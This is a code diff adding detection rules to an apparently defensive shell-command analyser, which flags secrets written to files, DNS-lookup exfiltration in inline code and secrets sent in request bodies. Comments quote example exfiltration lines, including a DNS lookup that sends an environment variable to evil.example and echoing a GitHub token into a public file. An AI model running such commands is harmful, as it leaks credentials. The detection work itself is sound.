@@ -1555,6 +1555,11 @@ class ShellAnalyser:
         finally:
             if assigns:
                 self.vars = saved
+        if cmd.name in ("echo", "printf") and any(w.tainted for w in cmd.words[1:]):
+            for r in redirects:  # echo $GITHUB_TOKEN > public/token.txt: the secret is in a file now
+                out = getattr(r, "output", None)
+                if getattr(r, "type", "") in (">", ">>", ">|", "&>", "&>>") and getattr(out, "kind", "") == "word":
+                    _secret_variable_write(self, self._quiet_expand(out), ctext)
         return cmd
 
     def _heredoc_substitutions(self, body: str, depth: int) -> None:
@@ -2276,6 +2281,16 @@ class ShellAnalyser:
                     self.emit("network_egress", "upload", S.high, f"Inline code posts data to {h}.", ctext)
                 else:
                     self.emit("network_egress", "unlisted_host", S.medium, f"Inline code contacts {h}.", ctext)
+        if _INLINE_DNS_LOOKUP.search(code) and (named := inline_secret_env(code)):
+            # socket.gethostbyname(os.environ['X'] + '.evil.example'): the name server of that domain is sent X
+            self.emit(
+                "credential_access",
+                "exfiltration",
+                S.critical,
+                f"Inline code looks up a host name in the DNS in code that reads secret environment variable "
+                f"${named[0]}: the lookup carries it to a name server.",
+                ctext,
+            )
         if re.search(r"os\.environ\b(?!\.get|\[)|process\.env\b(?!\.)|ENV\.to_h|%ENV", code) and urls:
             self.emit("credential_access", "exfiltration", S.critical, "Inline code sends the environment.", ctext)
         if re.search(r"os\.(chmod|setuid)\s*\([^)]*(0o?777|0o?4755|S_ISUID)", code):
@@ -2367,6 +2382,17 @@ class ShellAnalyser:
                     "exfiltration",
                     S.critical,
                     "Sends secret material to a host that is not allowed.",
+                    ctext,
+                )
+            elif _secret_in_body(cmd, args):
+                # an allowed host may be a shared one (api.github.com takes anyone's public gist): a secret in the
+                # request body is published there, unlike a credential in its own Authorization header
+                self.emit(
+                    "credential_access",
+                    "exfiltration",
+                    S.high,
+                    f"Puts a secret variable into the body of a request to {hosts[0]}: an allowed host can be a "
+                    "shared one where what is sent is published (a public gist, an issue).",
                     ctext,
                 )
 
@@ -3481,6 +3507,29 @@ def _curl_like(a: ShellAnalyser, cmd: _Cmd, args: list[str], depth: int, pl: Any
     a.metadata_check([*urls, *_curl_host_options(args)], ctext, " ".join(args), writes=_request_writes(name, args))
 
 
+_BODY_OPTS = frozenset(
+    {"-d", "--data", "--data-raw", "--data-binary", "--data-ascii", "--data-urlencode", "--json", "-F", "--form"}
+    | {"--form-string", "--post-data", "--body-data", "--raw"}
+)
+
+
+def _secret_in_body(cmd: _Cmd, args: list[str]) -> bool:
+    """Whether a request body option of ``curl``/``wget``/``http`` (``-d``, ``--data=…``, ``-F``, ``--json``,
+    ``--post-data`` …) is given a word holding a secret variable (``-d "{…$AWS_SECRET_ACCESS_KEY…}"``)."""
+    words = cmd.words[len(cmd.words) - len(args) :] if len(cmd.words) >= len(args) else []
+    if len(words) != len(args):
+        return False
+    for i, w in enumerate(words):
+        if not w.tainted:
+            continue
+        a = args[i]
+        if (i and args[i - 1] in _BODY_OPTS) or ("=" in a and a.partition("=")[0] in _BODY_OPTS):
+            return True
+        if cmd.name in ("http", "https", "xh") and re.match(r"[\w.-]+:?=", a):  # httpie: key=value, key:=json
+            return True
+    return False
+
+
 _CURL_HOST_OPTS = ("-x", "--proxy", "--preproxy", "--resolve", "--connect-to", "--url")
 # A container engine's API socket (curl --unix-socket), and a request body asking it for what docker run's
 # --privileged, -v /:…, --pid host, --cap-add ALL|SYS_ADMIN or a mount of the socket itself would ask.
@@ -4409,6 +4458,25 @@ def _h_install(a: ShellAnalyser, cmd: _Cmd, args: list[str], depth: int, pl: Any
         a.emit("privilege_escalation", "setuid", S.high, "Installs a file with the setuid/setgid bit.", cmd.text)
     if cmd.name == "install" and not any(x in ("-d",) for x in args):
         _h_mv(a, cmd, [x for x in args if not re.fullmatch(r"\d{3,4}", x)], depth, pl, ix)
+
+
+def _secret_variable_write(a: ShellAnalyser, target: str, ctext: str) -> None:
+    """``echo $SECRET > FILE``: ``credential_access.secret_in_file`` (H). A project's ``.env`` (judged as an env
+    file write), a credential file itself (judged as its overwrite) and ``/dev/…`` are left to their own rules."""
+    p = a.paths.resolve(target, a.cwd)
+    if p is not None and (
+        p.startswith("/dev/")
+        or a.paths.is_secret(p)
+        or (re.search(r"(^|/)\.env(\.[\w-]+)?$", p, re.IGNORECASE) and a.paths.in_workspace(p))
+    ):
+        return
+    a.emit(
+        "credential_access",
+        "secret_in_file",
+        S.high,
+        f"Writes a secret environment variable into {target}, where it can be read, committed or published.",
+        ctext,
+    )
 
 
 def _h_printenv(a: ShellAnalyser, cmd: _Cmd, args: list[str], depth: int, pl: Any, ix: int) -> None:
@@ -7764,6 +7832,15 @@ _INLINE_SENDS_RE = re.compile(
     r"needle|superagent|XMLHttpRequest|sendBeacon|WebSocket|Net::HTTP|open-uri|URI\.open|HTTParty|Faraday|RestClient|"
     r"LWP|HTTP::Tiny|Mojo::UserAgent|IO::Socket|file_get_contents|fsockopen|curl_exec|curl|wget|nc|ncat)\b|"
     r"\bhttps?\.(?:get|request)\s*\(|require\s*\(\s*[\"'](?:node:)?https?[\"']\s*\)"
+)
+
+
+# A DNS lookup in inline code (Python socket, dnspython, node dns, ruby Resolv/Addrinfo, perl, php, Go-like names).
+_INLINE_DNS_LOOKUP = re.compile(
+    r"\b(?:gethostbyname(?:_ex|l)?|getaddrinfo|gethostbyaddr|dns_get_record|inet_aton)\s{0,8}\(|"
+    r"\bresolver\.(?:resolve|query)\b|\bdns(?:\.promises)?\.(?:lookup|resolve\w{0,8})\s{0,8}\(|"
+    r"[\"'](?:node:)?dns(?:/promises)?[\"']\s{0,8}\)\s{0,8}\.\s{0,8}(?:lookup|resolve\w{0,8})\s{0,8}\(|"
+    r"\bResolv\b|\bAddrinfo\.getaddrinfo\b|\bIPSocket\.getaddress\b|\bLookupHost\s{0,8}\("
 )
 
 
